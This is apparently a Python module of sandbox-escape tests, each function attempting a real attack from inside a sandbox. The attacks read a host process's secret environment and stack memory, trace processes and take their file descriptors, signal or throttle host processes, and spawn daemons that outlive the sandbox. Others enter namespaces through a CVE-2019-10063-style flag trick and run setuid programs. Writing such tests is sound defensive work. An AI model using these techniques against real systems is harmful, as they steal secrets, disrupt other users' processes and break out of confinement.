"""Attacks on processes: of the host, of the sandbox's first process, and ways to outlive the sandbox.
VICTIM is a process of the same user on the host, with a secret in its environment."""

import ctypes, fcntl, os, signal, struct, sys, time
from attack import *

PTRACE_SEIZE, PTRACE_ATTACH, PTRACE_DETACH = 0x4206, 16, 17


def pids(*more):
    return {int(p) for p in os.listdir("/proc") if p.isdigit()} - {os.getpid(), os.getppid()} | set(more)


@attack("secret")
def environments():
    """Escape list 47: /proc/*/environ of every process there is, the victim among them."""
    each([lambda p=p: shown(f"/proc/{p}/environ") for p in pids(VICTIM)])


@attack("secret")
def own_environment():
    """Escape list 47: what the gate has in its environment is no program's."""
    print(dict(os.environ))


@attack("secret")
def command_lines():
    """Own: every process may read every command line; that of the first process is the gate's."""
    each([lambda p=p: shown(f"/proc/{p}/cmdline") for p in pids(VICTIM, TARGET)])


@attack("secret")
def memory_read():
    """Escape list 17: process_vm_readv and /proc/PID/mem of the victim."""
    def look():
        for line in open(f"/proc/{VICTIM}/maps"):
            if "[stack]" in line:
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                local = ctypes.create_string_buffer(end - start)
                mine = struct.pack("QQ", ctypes.addressof(local), end - start)
                theirs = struct.pack("QQ", start, end - start)
                try:
                    call(310, VICTIM, ctypes.c_char_p(mine), 1, ctypes.c_char_p(theirs), 1, 0)
                except OSError:
                    with open(f"/proc/{VICTIM}/mem", "rb", 0) as file:
                        file.seek(start)
                        local.raw = file.read(end - start)
                sys.stdout.buffer.write(local.raw)
    each([look])


@attack("proved")
def traced():
    """Escape list 17: the target, by both ways to trace, and a child of our own (tracing is refused as a whole)."""
    def seize(pid, how):
        call(101, how, pid, 0, 0)
        call(101, PTRACE_DETACH, pid, 0, 0) if how == PTRACE_ATTACH else None
        proved()
    child = os.fork()
    if child == 0:
        time.sleep(30)
        os._exit(0)
    each([lambda p=p, h=h: seize(p, h) for p in (TARGET, child) for h in (PTRACE_SEIZE, PTRACE_ATTACH)])
    os.kill(child, signal.SIGKILL)


@attack("proved")
def target_looked_into():
    """Own: memory, descriptors, folders, maps, stack and namespaces of the target."""
    def read(path):
        with open(path, "rb", 0) as file:
            if file.read(1):
                proved()
    each([lambda n=n: read(f"/proc/{TARGET}/{n}") for n in ("maps", "environ", "auxv", "exe", "stack", "smaps_rollup")])
    each([lambda n=n: os.readlink(f"/proc/{TARGET}/{n}") and proved() for n in ("root", "cwd", "exe", "fd/3", "ns/mnt")])
    each([lambda: os.listdir(f"/proc/{TARGET}/fd") and proved(), lambda: os.listdir(f"/proc/{TARGET}/map_files") and proved()])


@attack("proved")
def target_memory_written():
    """Own: the target's memory, by every door."""
    def write():
        os.close(os.open(f"/proc/{TARGET}/mem", os.O_RDWR))
        proved()
    buffer = ctypes.create_string_buffer(64)
    vector = struct.pack("QQ", ctypes.addressof(buffer), 8)
    each([write, lambda: call(440, os.pidfd_open(TARGET), ctypes.c_char_p(vector), 1, 20, 0) and proved()])


@attack("proved")
def descriptor_taken():
    """Escape list 17: pidfd_getfd takes the target's descriptors, its line to the host among them."""
    fd = os.pidfd_open(TARGET)
    each([lambda n=n: call(438, fd, n, 0) >= 0 and proved() for n in range(0, 8)])


@attack("victim")
def signals():
    """Escape list 18: kill, tgkill, queued signals and pidfds at a process of the host."""
    each([lambda: os.kill(VICTIM, signal.SIGSTOP), lambda: call(234, VICTIM, VICTIM, signal.SIGSTOP),
          lambda: signal.pidfd_send_signal(os.pidfd_open(VICTIM), signal.SIGKILL),
          lambda: call(62, VICTIM, signal.SIGKILL)])


@attack("victim")
def scheduling():
    """Own: priority, affinity, scheduler and io priority of a process of the host."""
    each([lambda: os.setpriority(os.PRIO_PROCESS, VICTIM, 19), lambda: os.sched_setaffinity(VICTIM, {0}),
          lambda: os.sched_setscheduler(VICTIM, os.SCHED_BATCH, os.sched_param(0)),
          lambda: call(251, 1, VICTIM, (3 << 13) | 7)])


@attack("victim")
def limits_of_others():
    """Own: prlimit and the out-of-memory score of a process of the host."""
    import resource
    def score():
        with open(f"/proc/{VICTIM}/oom_score_adj", "w") as file:
            file.write("900")
    each([lambda: resource.prlimit(VICTIM, resource.RLIMIT_NOFILE, (5, 5)), score])


@attack("survivor")
def outlives_in_own_session():
    """Escape list 25: a daemon in a session of its own that ignores every signal."""
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            for number in range(1, 32):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            if os.fork() == 0:
                quiet()
                time.sleep(30)
            os._exit(0)


def quiet():
    signal.alarm(0)
    os.closerange(0, 64)


@attack("survivor")
def outlives_as_a_sibling():
    """Own: CLONE_PARENT makes a child of the first process; CLONE_UNTRACED and no signal at exit hide it."""
    for flags in (0x00008000, 0x00800000, 0):
        if call(56, flags, 0, 0, 0, 0) == 0:
            quiet()
            os.setsid()
            time.sleep(30)
            os._exit(0)


@attack("survivor")
def outlives_stopped():
    """Own: everything is stopped as the main process ends, so that no handler can run."""
    heard, said = os.pipe()
    said = fcntl.fcntl(said, fcntl.F_DUPFD, 64)
    for _ in range(4):
        child = os.fork()
        if child == 0:
            quiet()
            os.write(said, b".")
            while True:
                time.sleep(30)
        # Stopped before that, it would hold this one's output.
        os.read(heard, 1)
        os.kill(child, signal.SIGSTOP)


@attack("survivor")
def outlives_in_vfork():
    """Own: a parent that waits uninterruptibly in vfork for a child that sleeps."""
    if os.fork() == 0:
        quiet()
        # CLONE_VFORK without CLONE_VM: the parent waits, the memory is not shared.
        call(56, 0x4000 | signal.SIGCHLD, 0, 0, 0, 0)
        time.sleep(30)
        os._exit(0)
    time.sleep(0.1)


@attack("proved")
def user_namespace():
    """Escape list 16: unshare, clone and clone3 into a user namespace, and unshare(1)."""
    def by_clone(number, *arguments):
        pid = call(number, *arguments)
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        proved()
    three = ctypes.create_string_buffer(struct.pack("QQQQQQQQ", 0x10000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0))
    each([lambda: by_clone(56, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0), lambda: by_clone(435, three, 64),
          lambda: sh("unshare -Ur true") == 0 and proved(), lambda: call(272, 0x10000000) == 0 and proved()])


@attack("proved")
def user_namespace_by_high_bits():
    """CVE-2019-10063's kin: flags the kernel reads in 32 bits, compared in 64."""
    each([lambda: call(272, 0x10000000 | 1 << 40) == 0 and proved(), lambda: call(272, 0x02000000) == 0 and proved(),
          lambda: call(272, 0x80) == 0 and proved()])
    pid = call(56, 0x10000000 | signal.SIGCHLD | 1 << 40, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    proved()


@attack("proved", control="root")
def namespaces_entered():
    """Escape list 16: setns to the target's namespaces, by file and by pidfd."""
    def into(name):
        fd = os.open(f"/proc/{TARGET}/ns/{name}", os.O_RDONLY)
        call(308, fd, 0)
        proved()
    each([lambda n=n: into(n) for n in ("user", "mnt", "net", "ipc", "uts", "pid", "cgroup")])
    each([lambda: call(308, os.pidfd_open(TARGET), 0x08000000) == 0 and proved(),
          lambda: sh(f"nsenter -t {TARGET} -n true") == 0 and proved()])


@attack("proved", control="root")
def namespace_files_pinned():
    """Own: binding a namespace's file keeps it alive, and an ioctl on it leads to its parent."""
    import fcntl
    def parent():
        fd = os.open("/proc/self/ns/user", os.O_RDONLY)
        owner = fcntl.ioctl(os.open("/proc/self/ns/net", os.O_RDONLY), 0xb701)
        up = fcntl.ioctl(owner, 0xb702) if not os.path.samestat(os.fstat(owner), os.fstat(fd)) else owner
        print(up, file=sys.stderr)
    put("pin")
    each([parent, lambda: sh("mount --bind /proc/self/ns/net pin && umount pin") == 0 and proved()])


@attack("proved", stage="setid-id")
def set_id_program_executed():
    """Escape list 24: a set-user-id program of somebody else, run plainly, by a script, by ld.so and out of memory."""
    import subprocess
    def by(*command):
        if subprocess.run(command, capture_output=True).stdout.strip() == E["SETID"].encode():
            proved()
    put("script", "#!" + WORK + "/setid-id -u\n")
    os.chmod("script", 0o755)
    each([lambda: by("./setid-id", "-u"), lambda: by("./script"), lambda: by("/lib64/ld-linux-x86-64.so.2", "./setid-id", "-u")])
    fd = os.memfd_create("copy", 0)
    os.write(fd, open("setid-id", "rb").read())
    each([lambda: os.chmod(fd, 0o4755), lambda: by(f"/proc/{os.getpid()}/fd/{fd}", "-u")])


@attack("proved", mode="ReadOnly")
def core_dump_left():
    """Escape list 47: what a crashing program leaves for the host's handler of cores."""
    import resource
    folder = "/tmp/" + TOKEN
    os.mkdir(folder)
    os.chdir(folder)
    each([lambda: resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))])
    child = os.fork()
    if child == 0:
        os.abort()
    os.waitpid(child, 0)
    for name in os.listdir(folder):
        proved()
        os.unlink(name)
    os.rmdir(folder)
